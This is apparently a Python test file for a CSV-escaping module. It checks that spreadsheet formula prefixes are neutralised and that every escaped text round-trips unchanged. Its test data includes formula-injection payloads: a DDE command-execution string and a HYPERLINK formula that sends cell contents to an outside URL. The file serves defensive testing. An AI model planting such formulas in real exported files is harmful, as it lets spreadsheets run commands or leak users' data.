"""CSV cells: nothing that a spreadsheet would run, and every text comes back."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frostline.base.cells import csv_text, from_cell, read_cells, to_cell

FORMULAS = (
    "=cmd|'/C calc'!A1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    "cat;=1+1",
    "two\n=lines",
)
ODD = st.text("=+-@'\t\r\n;ab1.,\"\uff1d")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_made_text_and_come_back(text: str) -> None:
    cell = to_cell(text)
    assert "'" in cell.replace(text.replace("'", ""), "")
    assert cell != text
    assert not cell.startswith(tuple("=+-@\t\r\n\uff1d"))
    assert ";=" not in cell
    assert "\n=" not in cell
    assert from_cell(cell) == text


@pytest.mark.parametrize("text", ["-0.5", "+1", "1e-05", "-1", ".5", "cat", "a-b", "p:=1", "it's", "'quoted'", ""])
def test_numbers_and_plain_names_stay_as_they_are(text: str) -> None:
    assert to_cell(text) == text
    assert from_cell(text) == text


@given(ODD | st.text())
def test_every_text_comes_back(text: str) -> None:
    assert from_cell(to_cell(text)) == text


@given(st.lists(st.lists(ODD, min_size=3, max_size=3)))
def test_a_table_comes_back_and_no_row_begins_a_formula(rows: list[list[str]]) -> None:
    text = csv_text(("=a", "b", "c"), rows)
    found = read_cells(text, ("=a", "c"))
    assert [list(row.values()) for row in found] == rows


@pytest.mark.parametrize("text", ["", "a,b\n1\n", 'a,b\n"1,2\n', "a,c\n1,2\n"])
def test_damaged_tables_are_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        read_cells(text, ("a", "b"))
